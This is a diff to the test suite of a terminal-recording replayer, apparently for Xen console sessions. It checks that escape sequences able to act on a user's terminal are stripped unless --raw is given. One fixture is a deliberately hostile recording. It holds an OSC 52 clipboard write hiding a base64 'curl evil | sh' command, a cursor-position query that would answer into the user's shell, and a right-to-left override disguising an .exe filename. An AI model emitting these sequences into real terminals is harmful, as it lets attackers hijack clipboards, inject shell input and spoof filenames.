@@ -95,10 +95,41 @@ describe('xenkeys replay in the TUI', () => {
 });
 
 describe('xenkeys replay --no-tui', () => {
-  it('writes exactly the recorded bytes at --speed max', async () => {
-    const { stdout, code } = await playPlain([join(RECORDING, 'session.cast'), '--no-tui', '--speed', 'max']);
+  it('writes exactly the recorded bytes at --speed max with --raw', async () => {
+    const args = [join(RECORDING, 'session.cast'), '--no-tui', '--speed', 'max', '--raw'];
+    const { stdout, code } = await playPlain(args);
     expect(code).toBe(0);
     expect(stdout.equals(readFileSync(join(RECORDING, 'session.raw')))).toBe(true);
+  });
+
+  it('without --raw drops only what would act on the terminal: the DSR queries dom0 sent', async () => {
+    // Real Xen 4.17 lab recording: busybox's shell asks the terminal for the cursor position (ESC[6n)
+    // at each prompt; a terminal replaying that would answer into the user's shell.
+    const raw = readFileSync(join(RECORDING, 'session.raw'), 'latin1');
+    expect(raw).toContain('\x1b[6n');
+    const { stdout, code } = await playPlain([join(RECORDING, 'session.cast'), '--no-tui', '--speed', 'max']);
+    expect(code).toBe(0);
+    expect(stdout.toString('latin1')).toBe(raw.replaceAll('\x1b[6n', ''));
+  });
+
+  it('plays a hostile cast safely: no clipboard write, no query, bidi spelled out; --raw passes it all', async () => {
+    const file = join(dir, 'hostile.cast');
+    const events = [
+      [0.1, 'o', '\x1b[1;32m(XEN) ok\x1b[0m\r\n'],
+      [0.2, 'o', 'copy \x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07me\r\n'],
+      [0.3, 'o', 'where am I\x1b[6n?\r\n'],
+      [0.4, 'o', 'invoice\u202Efdp.exe\r\n'],
+    ];
+    writeFileSync(
+      file,
+      [JSON.stringify({ version: 2, width: 80, height: 24 }), ...events.map((e) => JSON.stringify(e))].join(
+        '\n',
+      ),
+    );
+    const safe = (await playPlain([file, '--no-tui', '--speed', 'max'])).stdout.toString();
+    expect(safe).toBe('\x1b[1;32m(XEN) ok\x1b[0m\r\ncopy me\r\nwhere am I?\r\ninvoice\\u202efdp.exe\r\n');
+    const raw = (await playPlain([file, '--no-tui', '--speed', 'max', '--raw'])).stdout.toString();
+    expect(raw).toBe(events.map((e) => e[2]).join(''));
   });
 
   it('plays asciinema v1 and v3 files', async () => {
